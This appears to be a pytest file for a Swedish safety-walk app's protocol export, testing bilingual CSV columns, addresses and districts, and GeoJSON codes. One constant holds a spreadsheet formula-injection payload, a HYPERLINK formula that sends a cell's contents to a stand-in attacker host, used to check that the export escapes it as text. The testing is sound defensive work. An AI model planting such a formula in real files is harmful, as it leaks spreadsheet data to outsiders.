"""A walk protocol's places and files: each item's address, else its district (the queue's
rule), and the CSV in one language, the reader's, with the codes in columns of their own so a
spreadsheet filters the same whatever the language. The GeoJSON keeps codes only."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta

from sqlmodel import Session, select

from app import clock, i18n
from app.models import Observation, Priority, Status, Walk, WalkStatus, Zone
from app.services import csvfile, walk_protocol
from tests.factories import CENTRUM, insert_observation, make_staff
from tests.zonedata import WEST

BASE = "https://trygghet.example.se"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
OUTSIDE = ((WEST[1] + WEST[3]) / 2, (WEST[0] + WEST[2]) / 2)  # south of every district


@dataclass
class Places:
    walk: Walk
    lamp: Observation  # an address, handed to another owner
    hedge: Observation  # no address: its district; merged with the lamp; a formula typed
    secret: Observation  # a private category, outside every district
    square: Observation  # a good place to keep
    leader_email: str


def walk_with_places(session: Session) -> Places:
    """A closed walk with four items, the longest Swedish statuses among them."""
    leader = make_staff(session, "walk_leader")
    walk = Walk(
        title="Kvällsvandring i Centrum",
        join_code="PLACES",
        leader_id=leader.id,
        starts_at=clock.now() - timedelta(days=1),
        status=WalkStatus.closed,
    )
    session.add(walk)
    session.commit()
    at = clock.now() - timedelta(hours=20)
    lamp = insert_observation(
        session, lat=CENTRUM[0], lon=CENTRUM[1], walk_id=walk.id, created_at=at,
        status=Status.not_ours, handed_to="Trafikverket", address="Storgatan 12, Boden",
        priority=Priority.high, unsafe_level=4, dark=True, factors="lighting,sightlines",
        description="Lampan i tunneln är trasig",
    )  # fmt: skip
    hedge = insert_observation(
        session, lat=CENTRUM[0] + 0.0004, lon=CENTRUM[1] + 0.0006, walk_id=walk.id,
        category="vegetation", created_at=at + timedelta(minutes=5), status=Status.duplicate,
        duplicate_of_id=lamp.id, description=FORMULA,
    )  # fmt: skip
    secret = insert_observation(
        session, lat=OUTSIDE[0], lon=OUTSIDE[1], walk_id=walk.id, category="drug-dealing",
        created_at=at + timedelta(minutes=10), description="Langning vid kiosken",
    )  # fmt: skip
    square = insert_observation(
        session, lat=CENTRUM[0], lon=CENTRUM[1] + 0.001, walk_id=walk.id,
        category="good-place", created_at=at + timedelta(minutes=15), description="Ljust torg",
    )  # fmt: skip
    return Places(walk, lamp, hedge, secret, square, leader.email)


def the_protocol(session: Session, settings, places: Places, lang: str):  # type: ignore[no-untyped-def]
    return walk_protocol.protocol(session=session, walk=places.walk, settings=settings, lang=lang)


def read(text: str) -> tuple[list[str], list[dict[str, str]]]:
    assert text.startswith(csvfile.BOM)
    reader = csv.DictReader(io.StringIO(text.removeprefix(csvfile.BOM), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


# The columns whose cells are words (the rest are codes, numbers, names and free text).
WORD_COLUMNS = ("group", "category", "status", "priority", "dark", "factors")
# Words that are the same in both languages.
SAME_IN_BOTH = {"Status", "Position", "Normal", ""}


def test_each_item_carries_its_address_or_else_its_district(session, settings):
    places = walk_with_places(session)
    proto = the_protocol(session, settings, places, "sv")
    by_id = {i.id: i for _n, i in proto.numbered}
    centrum = session.get(Zone, places.hedge.zone_id)
    assert centrum is not None  # the queue's district: the observation's innermost zone
    assert by_id[places.lamp.id].address == "Storgatan 12, Boden"
    assert by_id[places.hedge.id].address is None
    assert by_id[places.hedge.id].district == centrum.name
    assert by_id[places.secret.id].district is None  # outside every district


def test_the_swedish_file_is_swedish_with_the_codes_beside(session, settings):
    places = walk_with_places(session)
    proto = the_protocol(session, settings, places, "sv")
    sv_header, sv = read(walk_protocol.protocol_csv(proto, lang="sv", base_url=BASE))
    en_header, en = read(walk_protocol.protocol_csv(proto, lang="en", base_url=BASE))

    assert sv_header[:4] == ["Punkt", "Nummer", "Gruppkod", "Grupp"]
    assert en_header[:4] == ["Item", "Number", "Group code", "Group"]
    for sv_title, en_title in zip(sv_header, en_header, strict=True):
        assert sv_title != en_title or sv_title in SAME_IN_BOTH, sv_title

    # One numbering, as on the page and the map: to fix first, then to keep.
    assert [int(r["Punkt"]) for r in sv] == [1, 2, 3, 4]
    assert [int(r["Nummer"]) for r in sv] == [
        places.lamp.id, places.hedge.id, places.secret.id, places.square.id,
    ]  # fmt: skip
    lamp, hedge, secret, square = sv
    assert lamp["Status"] == "Överlämnad till en annan ansvarig"
    assert lamp["Statuskod"] == "not_ours"
    assert hedge["Status"] == "Sammanslagen med en annan rapport"
    assert hedge["Statuskod"] == "duplicate"
    assert lamp["Grupp"] == "Att åtgärda" and lamp["Gruppkod"] == "to_fix"
    assert square["Grupp"] == "Att bevara" and square["Gruppkod"] == "to_keep"
    assert lamp["Prioritet"] == "Hög" and lamp["Prioritetskod"] == "high"
    assert square["Prioritet"] == square["Prioritetskod"] == ""  # nothing to fix
    assert lamp["I mörker"] == "ja" and hedge["I mörker"] == "nej"
    assert lamp["Varför"] == "Dålig belysning; Dålig sikt / skymda hörn"
    assert lamp["Orsakskoder"] == "lighting sightlines"
    assert lamp["Kategorikod"] == "dark-spot" and secret["Kategorikod"] == "drug-dealing"
    assert lamp["Adress"] == "Storgatan 12, Boden" and hedge["Adress"] == ""
    assert hedge["Stadsdel"] and secret["Stadsdel"] == ""
    assert lamp["Publik länk"] == f"{BASE}/reports/{places.lamp.id}"
    assert secret["Publik länk"] == ""  # a private category has no public page

    # No English word in the Swedish file: each word cell differs from the English file's.
    sv_titles = dict(zip(en_header, sv_header, strict=True))
    with i18n.using("en"):
        en_titles = walk_protocol.csv_headers()
    for sv_row, en_row in zip(sv, en, strict=True):
        for column in WORD_COLUMNS:
            title = en_titles[column]
            assert sv_row[sv_titles[title]] != en_row[title] or en_row[title] in SAME_IN_BOTH, (
                column,
                en_row[title],
            )
        # The codes are the same in both files.
        for code in ("group_code", "category_code", "status_code", "priority_code"):
            assert sv_row[sv_titles[en_titles[code]]] == en_row[en_titles[code]]
    assert en[0]["Status"] == "Handed to another owner" and en[0]["In the dark"] == "yes"


def test_a_formula_typed_as_a_description_stays_text_in_both_languages(session, settings):
    places = walk_with_places(session)
    proto = the_protocol(session, settings, places, "sv")
    for lang, column in (("sv", "Beskrivning"), ("en", "Description")):
        _header, rows = read(walk_protocol.protocol_csv(proto, lang=lang, base_url=BASE))
        assert rows[1][column] == "'" + FORMULA
        assert csvfile.read_cell(rows[1][column]) == FORMULA


def test_the_geojson_keeps_codes_whatever_the_language(session, settings):
    places = walk_with_places(session)
    proto = the_protocol(session, settings, places, "sv")
    geo = walk_protocol.protocol_geojson(proto, lang="sv", base_url=BASE)
    points = [f["properties"] for f in geo["features"] if "id" in f["properties"]]
    assert [p["number"] for p in points] == [1, 2, 3, 4]
    lamp = points[0]
    assert lamp["status"] == "not_ours" and lamp["group"] == "to_fix"
    assert lamp["priority"] == "high" and lamp["factors"] == "lighting sightlines"
    assert lamp["category_code"] == "dark-spot" and lamp["dark"] == "yes"
    assert lamp["address"] == "Storgatan 12, Boden"
    assert points[1]["district"] and points[2]["district"] == ""
    assert points[2]["status_url"] == ""
    assert points[3]["group"] == "to_keep"


def test_the_rows_speak_the_language_asked_for_not_the_current_one(session, settings):
    places = walk_with_places(session)
    proto = the_protocol(session, settings, places, "sv")
    with i18n.using("en"):
        rows = walk_protocol.protocol_rows(proto, lang="sv", base_url=BASE)
    assert rows[0]["status"] == "Överlämnad till en annan ansvarig"
    assert rows[0]["status_code"] == "not_ours"
    assert i18n.current_language() == "en"
    assert session.exec(select(Observation)).all()  # nothing written by reading
